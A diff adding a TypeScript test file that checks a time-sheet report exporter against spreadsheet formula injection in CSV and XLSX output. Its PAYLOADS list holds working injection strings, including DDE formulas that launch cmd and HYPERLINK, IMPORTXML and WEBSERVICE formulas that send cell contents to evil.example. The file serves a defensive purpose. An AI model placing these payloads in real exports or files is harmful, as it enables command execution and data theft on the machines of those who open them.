@@ -1,0 +1,147 @@
+import { parse } from "csv-parse/sync";
+import { readSheet } from "read-excel-file/node";
+import { expect, test } from "vitest";
+import { reportFile } from "./report-file.ts";
+import { safeText } from "./safe-text.ts";
+import { type Table, tableOf } from "./table.ts";
+
+/** What people are known to write into time sheets that are opened in a spreadsheet later. Threat T12. */
+const PAYLOADS = [
+	"=1+1",
+	"=cmd|' /C calc'!A0",
+	'=HYPERLINK("https://evil.example?x="&A1,"Open")',
+	'=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
+	'=DDE("cmd";"/C calc";"!A0")',
+	'=WEBSERVICE("https://evil.example/"&B2)',
+	"=SUM(A1:A9)*2",
+	"+1+1",
+	"+cmd|' /C notepad'!A0",
+	"-1+1",
+	"-2+3+cmd|' /C calc'!A0",
+	"-7.5",
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	"@import",
+	"\t=1+1",
+	"\r=1+1",
+	"\n=1+1",
+	"\r\n=1+1",
+	"\0=1+1",
+	"＝1+1",
+	"＋1+1",
+	"－1+1",
+	"＠SUM(1)",
+	'=1+1";=2+2',
+	"=1+1,=2+2",
+	"=1+1;=2+2",
+	'="a" & "b"',
+	'";=1+1;"',
+	"a\n=1+1",
+	"'=1+1",
+	'ordinary, with a comma; a semicolon and a "quote"',
+	"Mäkelä työsti ÅÄÖ: 100 % 🙂",
+] as const;
+
+interface Row {
+	readonly note: string;
+	readonly date: string;
+	readonly hours: number | null;
+	readonly price: number;
+}
+
+const tableIn = tableOf<Row, { hours: number }>({ en: "Lines: all/of [it]", fi: "Työrivit" }, [
+	{ heading: { en: "Note", fi: "=Muistiinpano" }, kind: "text", of: ({ note }) => note },
+	{ heading: { en: "Date", fi: "Päivä" }, kind: "date", of: ({ date }) => date },
+	{
+		heading: { en: "Hours", fi: "Tunnit" },
+		kind: "hours",
+		of: ({ hours }) => hours,
+		total: ({ hours }) => hours,
+	},
+	{ heading: { en: "Price", fi: "Hinta" }, kind: "money", of: ({ price }) => price },
+]);
+
+const rows = PAYLOADS.map((note): Row => ({ note, date: "2026-06-15", hours: -7.5, price: 1234.5 }));
+const range = { startDate: "2026-06-01", endDate: "2026-06-30" };
+const FORMULA = /^[=+\-@\t\r\n\0＝＋－＠]/;
+
+async function csvLines(table: Table, language: "en" | "fi"): Promise<string[][]> {
+	const { body } = await reportFile(table, "csv", language, range);
+	return parse(body, { bom: true, delimiter: language === "fi" ? ";" : "," });
+}
+
+async function xlsxLines(table: Table, language: "en" | "fi"): Promise<unknown[][]> {
+	return readSheet((await reportFile(table, "xlsx", language, range)).body, { trim: false });
+}
+
+test("at least 25 payloads are tried", () => {
+	expect(PAYLOADS.length).toBeGreaterThanOrEqual(25);
+	expect(new Set(PAYLOADS).size).toBe(PAYLOADS.length);
+});
+
+test.each(["en", "fi"] as const)(
+	"in CSV (%s) no text evaluates, and each stands there whole",
+	async (language) => {
+		const lines = await csvLines(tableIn(language, rows), language);
+
+		const notes = lines.slice(1).map(([note]) => note);
+		expect(notes).toEqual(PAYLOADS.map(safeText));
+		for (const line of lines) expect(line[0]).not.toMatch(FORMULA);
+		expect(lines.every((line) => line.length === 4)).toBe(true);
+	},
+);
+
+test.each(["en", "fi"] as const)(
+	"in XLSX (%s) no text evaluates, and each stands there as text",
+	async (language) => {
+		const lines = await xlsxLines(tableIn(language, rows), language);
+
+		const notes = lines.slice(1).map(([note]) => String(note));
+		expect(notes.map((note) => note.replaceAll("\r\n", "\n").replaceAll("\r", "\n"))).toEqual(
+			PAYLOADS.map((text) =>
+				safeText(text).replace("\0", "").replaceAll("\r\n", "\n").replaceAll("\r", "\n"),
+			),
+		);
+		for (const [note] of lines) expect(note).not.toMatch(FORMULA);
+	},
+);
+
+test("−7.5 is a number in every file, and a date a date", async () => {
+	const row: Row = { note: "work", date: "2026-06-05", hours: -7.5, price: 1234.5 };
+
+	expect((await csvLines(tableIn("en", [row]), "en"))[1]).toEqual(["work", "2026-06-05", "-7.50", "1234.50"]);
+	expect((await csvLines(tableIn("fi", [row]), "fi"))[1]).toEqual(["work", "05.06.2026", "-7,50", "1234,50"]);
+	expect((await xlsxLines(tableIn("fi", [row]), "fi"))[1]).toEqual([
+		"work",
+		new Date("2026-06-05T00:00:00Z"),
+		-7.5,
+		1234.5,
+	]);
+});
+
+test("headings speak the language, the last line holds the totals, and what there is not stays empty", async () => {
+	const table = tableIn("fi", [{ note: "", date: "2026-06-05", hours: null, price: 0 }], { hours: 0.25 });
+
+	const [headings, line, totals] = await csvLines(table, "fi");
+	expect(headings).toEqual(["'=Muistiinpano", "Päivä", "Tunnit", "Hinta"]);
+	expect(line).toEqual(["", "05.06.2026", "", "0,00"]);
+	expect(totals).toEqual(["Yhteensä", "", "0,25", ""]);
+	expect((await xlsxLines(table, "fi")).at(-1)).toEqual(["Yhteensä", null, 0.25, null]);
+});
+
+test("a file begins with a byte order mark, ends its lines as RFC 4180 says, and has a name that needs no escaping", async () => {
+	const csv = await reportFile(tableIn("fi", rows.slice(-1)), "csv", "fi", range);
+	const xlsx = await reportFile(tableIn("en", []), "xlsx", "en", range);
+
+	expect([...csv.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+	expect(csv.body.toString("utf8").split("\r\n")).toHaveLength(3);
+	expect(csv.fileName).toBe("tyorivit-2026-06-01-2026-06-30.csv");
+	expect(xlsx.fileName).toBe("lines-all-of-it-2026-06-01-2026-06-30.xlsx");
+	expect(xlsx.body.subarray(0, 2).toString()).toBe("PK");
+});
+
+test("nothing is cut: ten thousand lines come out of either file", async () => {
+	const many = Array.from({ length: 10_000 }, (_, index) => ({ ...rows[0], note: `line ${index}` }) as Row);
+
+	expect(await csvLines(tableIn("en", many), "en")).toHaveLength(10_001);
+	expect(await xlsxLines(tableIn("en", many), "en")).toHaveLength(10_001);
+});
